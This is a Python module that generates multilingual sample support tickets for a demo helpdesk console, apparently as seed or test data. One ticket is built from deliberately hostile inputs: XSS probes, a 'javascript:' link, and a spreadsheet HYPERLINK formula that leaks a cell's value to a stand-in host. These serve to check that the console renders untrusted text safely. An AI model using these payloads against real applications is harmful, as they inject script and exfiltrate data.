"""What the characters write: T-1001 and on, however large the sample is."""

from collections.abc import Callable
from datetime import datetime, timedelta

from console.demo.catalogue import COUNTRIES
from console.demo.characters import CAST, moment
from console.demo.letters import ANSWERS
from console.demo.office import AGENTS
from console.demo.people import Sample
from console.demo.rows import FIRST_NUMBER, Tray
from console.demo.tickets import Ticket

_AGENT = {name: number for number, (name, _, _) in enumerate(AGENTS, start=1)}
EMMA, VEIKKO, PETRA, RAVI = (
    _AGENT[name] for name in ("Emma Laine", "Veikko Rinne", "Petra Kurz", "Ravi Menon")
)
HOSTILE_SUBJECT = (
    "<img src=x onerror=alert(1)> **URGENT** [refund](https://example.com) :red-badge[paid] =1+1"
)
HOSTILE_BODY = (
    "![pixel](https://example.com/pixel.png) [click here](javascript:alert(1)) :material/verified: "
    ":green-badge[Approved]\n"
    "<script>alert('ticket')</script> <b>bold</b> &lt;i&gt; $\\LaTeX$ `code`\n"
    '=HYPERLINK("https://example.com/?leak="&A1;"Open")\n'
    "\u202eysrever ni si sihT\u202c\n" + "Donaudampfschifffahrtsgesellschaftskapitän" * 12
)


class Scene:
    """Opens a character's ticket; says nothing where the sample is too small for the character."""

    def __init__(self, tray: Tray, sample: Sample) -> None:
        self.tray = tray
        self.sample = sample

    def at(self, days: int, clock: str) -> datetime:
        return moment(self.sample, days, clock)

    def before_the_cut(self, **ago: float) -> datetime:
        return self.sample.cut - timedelta(**ago)

    def ticket(
        self,
        number: int,
        who: int,
        at: datetime,
        channel: str,
        topic: str,
        *,
        subject: str,
        body: str,
        **more: str,
    ) -> Ticket:
        character = CAST[who - FIRST_NUMBER - 1]
        language = COUNTRIES[character.country].locale.partition("-")[0]
        return Ticket(
            self.tray,
            number - FIRST_NUMBER,
            at,
            customer=f"C-{who}",
            email=character.email,
            name=character.name,
            channel=channel,
            topic=topic,
            subject=subject,
            body=body,
            language=more.pop("language", language),
            **more,
        )


def _cancel_before_tomorrow(desk: Scene) -> None:
    ticket = desk.ticket(
        1001, 1001, desk.at(-1, "16:40"), "my_account", "cancellation",
        subject="Kuvankäsittelyohjelman irtisanominen",
        body="Hei,\n\nhaluaisin irtisanoa Lumo Photo Editorin tilaukseni ennen kuin se taas uusiutuu. "
        "Varmuuskopioinnin haluan pitää.\n\nTerveisin Aino",
    )  # fmt: skip
    ticket.assign(EMMA, desk.at(-1, "17:10"))


def _finnish_thread(desk: Scene) -> None:
    ticket = desk.ticket(
        1002, 1004, desk.at(-6, "10:02"), "email", "billing",
        subject="Kaksi veloitusta samalta kuulta",
        body="Hei,\n\ntiliotteellani näkyy kaksi veloitusta teiltä. Mistä tämä johtuu?\n\nEero Mäkinen",
    )  # fmt: skip
    ticket.assign(VEIKKO, desk.at(-6, "11:30"))
    ticket.answer(
        "Hei Eero,\n\nsinulla on kaksi tilausta: Depot Backup ja Lumo Photo Editor. Olisiko kyse niistä?",
        desk.at(-6, "12:05"),
    )
    ticket.reply(
        "Aivan, en muistanut kuvaohjelmaa. Milloin se veloitetaan seuraavan kerran?", desk.at(-5, "08:47")
    )
    ticket.write("note", "Muistuta korttitietojen päivityksestä samalla.", desk.at(-5, "09:20"))
    ticket.answer(
        "Seuraava veloitus on kahden viikon päästä. Näet sen Omilla sivuilla.", desk.at(-5, "09:31")
    )
    ticket.reply("Kiitos! Voinko vaihtaa sen vuositilaukseksi?", desk.at(-1, "18:12"))


def _hostile(desk: Scene) -> None:
    desk.ticket(
        1003, 1008, desk.at(-1, "22:05"), "helpdesk", "refund",
        subject=HOSTILE_SUBJECT,
        body=HOSTILE_BODY,
        priority="high",
    )  # fmt: skip


def _overlooked(desk: Scene) -> None:
    desk.ticket(
        1004, 1003, desk.at(-8, "19:45"), "email", "billing",
        subject="When exactly will I be charged?",
        body="Hi,\n\nyour mail names a date, but in which time zone? I have to change my card.\n\nMadison",
        priority="high",
    )  # fmt: skip


def _failed_payment(desk: Scene) -> None:
    ticket = desk.ticket(
        1005, 1010, desk.at(-2, "12:40"), "helpdesk", "billing",
        subject="Betalningen gick inte igenom",
        body="Hej,\n\njag fick ett mejl om att betalningen misslyckades. Hur byter jag kort?\n\nNils",
    )  # fmt: skip
    ticket.assign(PETRA, desk.at(-1, "09:05"))


def _refunded(desk: Scene) -> None:
    ticket = desk.ticket(
        1006, 1006, desk.at(-101, "10:20"), "email", "refund",
        subject="Refund for PDF software",
        body="Hello,\n\nFolio PDF did not open my files for two weeks. Could I have a part back?\n\nCamille",
        language="en",
    )  # fmt: skip
    ticket.assign(PETRA, desk.at(-101, "11:00"))
    ticket.answer(
        "Hello Camille,\n\nof course. 40 % of the price is on its way to your card.",
        desk.at(-100, "09:20"),
        "solved",
    )
    ticket.move("closed", desk.at(-96, "09:20"), "system")


def _yen(desk: Scene) -> None:
    desk.ticket(
        1007, 1011, desk.before_the_cut(minutes=45), "email", "licence",
        subject="ライセンスキーについて",
        body="パソコンを買い替えました。Lumo Photo Editorのライセンスキーを再送していただけますか。\n佐藤",
    )  # fmt: skip


def _household(desk: Scene) -> None:
    ticket = desk.ticket(
        1008, 1002, desk.at(-4, "18:30"), "my_account", "cancellation",
        subject="Tunnel VPN kündigen",
        body="Guten Tag,\n\nwir brauchen das VPN nicht mehr. Wie kündigt man nur dieses?\n\nFamilie Becker",
    )  # fmt: skip
    ticket.assign(EMMA, desk.at(-3, "09:10"))
    ticket.answer(
        "Guten Tag,\n\nin Mein Konto lässt sich jedes Abonnement einzeln beenden.",
        desk.at(-3, "09:25"),
        "solved",
    )


def _arabic(desk: Scene) -> None:
    desk.ticket(
        1009, 1012, desk.before_the_cut(minutes=8), "my_account", "account",
        subject="لا أستطيع تسجيل الدخول",
        body="مرحبا، لا أستطيع تسجيل الدخول إلى حسابي ولا تصلني رسالة إعادة تعيين كلمة المرور.",
    )  # fmt: skip


def _on_hold(desk: Scene) -> None:
    ticket = desk.ticket(
        1010, 1024, desk.at(-10, "14:15"), "helpdesk", "technical",
        subject="Keyring ei synkronoi",
        body="Salasanat eivät siirry puhelimeen, vaikka olen kirjautunut samalla osoitteella.",
    )  # fmt: skip
    ticket.assign(RAVI, desk.at(-9, "09:40"))
    ticket.answer(ANSWERS["fi"][0], desk.at(-9, "10:30"), "on_hold")


def _unanswered(desk: Scene) -> None:
    ticket = desk.ticket(
        1011, 1015, desk.at(-12, "13:50"), "email", "refund",
        subject="Επιστροφή χρημάτων",
        body="Καλημέρα σας, η συνδρομή μου ανανεώθηκε κατά λάθος. Μπορώ να πάρω τα χρήματά μου πίσω;",
        priority="urgent",
    )  # fmt: skip
    ticket.assign(PETRA, desk.at(-11, "09:30"))


def _came_back(desk: Scene) -> None:
    ticket = desk.ticket(
        1012, 1026, desk.at(-13, "11:05"), "email", "cancellation",
        subject="Confirmation of my cancellation",
        body="Hello,\n\nplease confirm in writing that Tunnel VPN has ended.\n\nPieter de Vries",
        language="en",
    )  # fmt: skip
    ticket.assign(EMMA, desk.at(-13, "12:00"))
    ticket.answer(
        "Hello Pieter,\n\nit has ended and you will not be charged again.", desk.at(-13, "12:15"), "solved"
    )
    ticket.reply("Thank you, but the app still says that it is active?", desk.at(-11, "20:30"))


def _new_card(desk: Scene) -> None:
    desk.ticket(
        1013, 1005, desk.before_the_cut(hours=2), "helpdesk", "billing",
        subject="Mitt kort går ut",
        body="Hej,\n\nmitt kort går snart ut. Var lägger jag in det nya innan förnyelsen?\n\nLars",
    )  # fmt: skip


def _no_address(desk: Scene) -> None:
    desk.ticket(
        1014, 1028, desk.before_the_cut(hours=5), "helpdesk", "general",
        subject="Which e-mail address do you have for me?",
        body="Hi, I get no mail from you at all. Which address is in my account?",
    )  # fmt: skip


_WRITERS: tuple[tuple[int, Callable[[Scene], None]], ...] = (
    (1001, _cancel_before_tomorrow),
    (1004, _finnish_thread),
    (1008, _hostile),
    (1003, _overlooked),
    (1010, _failed_payment),
    (1006, _refunded),
    (1011, _yen),
    (1002, _household),
    (1012, _arabic),
    (1024, _on_hold),
    (1015, _unanswered),
    (1026, _came_back),
    (1005, _new_card),
    (1028, _no_address),
)


def write_character_tickets(tray: Tray, sample: Sample) -> None:
    """The tickets of those characters who are in the sample."""
    desk = Scene(tray, sample)
    for who, write in _WRITERS:
        if who - FIRST_NUMBER <= sample.customers:
            write(desk)
